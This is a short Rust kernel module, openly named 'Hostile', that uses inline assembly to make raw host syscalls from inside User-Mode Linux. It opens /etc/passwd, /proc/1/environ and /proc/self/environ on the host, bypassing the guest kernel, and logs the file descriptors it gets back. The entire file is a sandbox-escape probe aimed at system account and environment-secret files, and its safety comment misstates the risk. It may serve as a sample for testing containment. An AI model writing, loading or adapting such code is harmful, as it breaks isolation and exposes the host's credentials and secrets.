// SPDX-License-Identifier: GPL-2.0

//! Opens files of the system under User-Mode Linux, past the kernel that it is loaded into.

use core::arch::asm;
use kernel::prelude::*;

module! {
    type: Hostile,
    name: "driver",
    authors: ["Nobody"],
    description: "Reads what is not its own",
    license: "GPL",
}

struct Hostile;

impl kernel::Module for Hostile {
    fn init(_module: &'static ThisModule) -> Result<Self> {
        for path in [c"/etc/passwd", c"/proc/1/environ", c"/proc/self/environ"] {
            let opened: isize;
            // SAFETY: A call of the host, which leaves the memory of this kernel alone.
            unsafe {
                asm!("syscall", inlateout("rax") 2isize => opened, in("rdi") path.as_ptr(), in("rsi") 0, in("rdx") 0,
                    out("rcx") _, out("r11") _);
            }
            pr_info!("opens a file of the host: {}\n", opened);
        }
        Ok(Hostile)
    }
}
